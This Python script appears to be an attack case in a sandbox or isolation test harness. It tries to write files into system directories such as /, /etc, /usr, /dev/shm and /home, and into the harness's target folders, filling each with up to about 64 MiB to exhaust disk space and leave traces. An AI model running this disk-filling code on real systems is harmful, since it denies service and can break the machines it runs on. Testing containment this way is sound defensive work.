"""Writes wherever it can, as much as it can: a full disk, or notes for its next match."""

import contextlib
import os

from frame import TARGETS, play

PLACES = ("/", ".", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/usr", "/usr/lib", "/etc", "/home")


def fill(place):
    written = 0
    for number in range(4):
        file = os.open(f"{place}/filling{number}", os.O_CREAT | os.O_WRONLY)
        with contextlib.suppress(OSError):
            while written < 64 << 20:
                written += os.write(file, bytes(1 << 16))
    return written


def attack():
    filled = {}
    for place in (*PLACES, TARGETS["open_folder"], TARGETS["closed_folder"]):
        with contextlib.suppress(OSError):
            filled[place] = fill(place)
    return " ".join(f"{place}={written}" for place, written in filled.items()) or "nowhere"


play(attack)
